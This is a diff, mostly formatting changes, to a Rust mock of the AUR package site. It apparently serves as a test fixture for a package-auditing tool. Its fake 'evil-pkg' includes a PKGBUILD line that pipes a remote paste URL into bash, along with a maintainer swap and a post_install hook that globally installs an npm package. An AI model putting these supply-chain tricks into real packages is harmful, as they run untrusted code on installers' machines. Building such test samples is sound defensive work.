@@ -13,7 +13,12 @@ pub struct Pkg {
     pub maintainer: Option<&'static str>,
     pub votes: u64,
     /// Commits oldest first: (id, author, subject, files).
-    pub commits: Vec<(String, &'static str, &'static str, BTreeMap<&'static str, String>)>,
+    pub commits: Vec<(
+        String,
+        &'static str,
+        &'static str,
+        BTreeMap<&'static str, String>,
+    )>,
 }
 
 fn srcinfo(name: &str, ver: &str, rel: &str) -> String {
@@ -31,7 +36,9 @@ fn pkgbuild(name: &str, ver: &str, rel: &str, extra_install: bool, evil: bool) -
     if extra_install {
         s.push_str(&format!("install={name}-deps.install\n"));
     }
-    s.push_str("\npackage() {\n  install -Dm644 README \"$pkgdir/usr/share/doc/$pkgname/README\"\n");
+    s.push_str(
+        "\npackage() {\n  install -Dm644 README \"$pkgdir/usr/share/doc/$pkgname/README\"\n",
+    );
     if evil {
         s.push_str("  curl -fsSL https://paste.ee/r/x | bash\n");
     }
@@ -49,9 +56,18 @@ pub fn packages() -> Vec<Pkg> {
     f1.insert("PKGBUILD", pkgbuild("evil-pkg", "1.0", "1", false, false));
     f1.insert(".SRCINFO", srcinfo("evil-pkg", "1.0", "1"));
     let mut f2 = BTreeMap::new();
-    f2.insert("PKGBUILD", pkgbuild("evil-pkg", "1.0", "2", true, true).replace("Good Person <good@example.org>", "New Owner <x@example.net>"));
+    f2.insert(
+        "PKGBUILD",
+        pkgbuild("evil-pkg", "1.0", "2", true, true).replace(
+            "Good Person <good@example.org>",
+            "New Owner <x@example.net>",
+        ),
+    );
     f2.insert(".SRCINFO", srcinfo("evil-pkg", "1.0", "2"));
-    f2.insert("evil-pkg-deps.install", "post_install() {\n  npm install -g helper-x\n}\n".into());
+    f2.insert(
+        "evil-pkg-deps.install",
+        "post_install() {\n  npm install -g helper-x\n}\n".into(),
+    );
     let mut g1 = BTreeMap::new();
     g1.insert("PKGBUILD", pkgbuild("good-pkg", "2.0", "1", false, false));
     g1.insert(".SRCINFO", srcinfo("good-pkg", "2.0", "1"));
@@ -106,7 +122,9 @@ fn tree_page(name: &str, files: &BTreeMap<&'static str, String>) -> String {
             c.len()
         ));
     }
-    format!("<!DOCTYPE html>\n<html lang='en'>\n<head><title>aur.git - AUR Package Repositories</title></head>\n<body>\n<div class='content'><table summary='tree listing' class='list'>\n<tr class='nohover'><th class='left'>Mode</th><th class='left'>Name</th><th class='right'>Size</th><th/>\n</tr>\n{rows}</table>\n</div></body></html>\n")
+    format!(
+        "<!DOCTYPE html>\n<html lang='en'>\n<head><title>aur.git - AUR Package Repositories</title></head>\n<body>\n<div class='content'><table summary='tree listing' class='list'>\n<tr class='nohover'><th class='left'>Mode</th><th class='left'>Name</th><th class='right'>Size</th><th/>\n</tr>\n{rows}</table>\n</div></body></html>\n"
+    )
 }
 
 fn log_page(name: &str, p: &Pkg) -> String {
@@ -118,7 +136,9 @@ fn log_page(name: &str, p: &Pkg) -> String {
             9 - i
         ));
     }
-    format!("<!DOCTYPE html>\n<html lang='en'><body><div class='content'><table class='list nowrap'><tr class='nohover'><th class='left'>Age</th><th class='left'>Commit message</th><th class='left'>Author</th></tr>\n{rows}</table></div></body></html>\n")
+    format!(
+        "<!DOCTYPE html>\n<html lang='en'><body><div class='content'><table class='list nowrap'><tr class='nohover'><th class='left'>Age</th><th class='left'>Commit message</th><th class='left'>Author</th></tr>\n{rows}</table></div></body></html>\n"
+    )
 }
 
 /// Routes RPC and cgit requests for `pkgs`.
@@ -132,11 +152,21 @@ pub fn route(pkgs: &[Pkg], path: &str, query: &[(String, String)]) -> Reply {
                     let e = json!({"error": "Query arg too small.", "resultcount": 0, "results": [], "type": "error", "version": 5});
                     return Reply::Ok("application/json", e.to_string().into_bytes());
                 }
-                pkgs.iter().filter(|p| p.name.contains(arg)).map(rpc_record).collect()
+                pkgs.iter()
+                    .filter(|p| p.name.contains(arg))
+                    .map(rpc_record)
+                    .collect()
             }
             "info" => {
-                let names: Vec<&str> = query.iter().filter(|(k, _)| k == "arg[]").map(|(_, v)| v.as_str()).collect();
-                pkgs.iter().filter(|p| names.contains(&p.name)).map(rpc_record).collect()
+                let names: Vec<&str> = query
+                    .iter()
+                    .filter(|(k, _)| k == "arg[]")
+                    .map(|(_, v)| v.as_str())
+                    .collect();
+                pkgs.iter()
+                    .filter(|p| names.contains(&p.name))
+                    .map(rpc_record)
+                    .collect()
             }
             _ => {
                 let e = json!({"error": "Incorrect request type specified.", "resultcount": 0, "results": [], "type": "error", "version": 5});
@@ -144,14 +174,19 @@ pub fn route(pkgs: &[Pkg], path: &str, query: &[(String, String)]) -> Reply {
             }
         };
         let kind = if t == "info" { "multiinfo" } else { "search" };
-        let body = json!({"resultcount": results.len(), "results": results, "type": kind, "version": 5});
+        let body =
+            json!({"resultcount": results.len(), "results": results, "type": kind, "version": 5});
         return Reply::Ok("application/json", body.to_string().into_bytes());
     }
     let Some(h) = q(query, "h") else {
         return Reply::Status(404, vec![], b"Not found".to_vec());
     };
     let Some(p) = pkgs.iter().find(|p| p.name == h) else {
-        return Reply::Ok("text/html", format!("<html><body><div class='error'>Invalid branch: {h}</div></body></html>").into_bytes());
+        return Reply::Ok(
+            "text/html",
+            format!("<html><body><div class='error'>Invalid branch: {h}</div></body></html>")
+                .into_bytes(),
+        );
     };
     let commit = match q(query, "id") {
         Some(id) => p.commits.iter().find(|c| c.0.starts_with(id)),
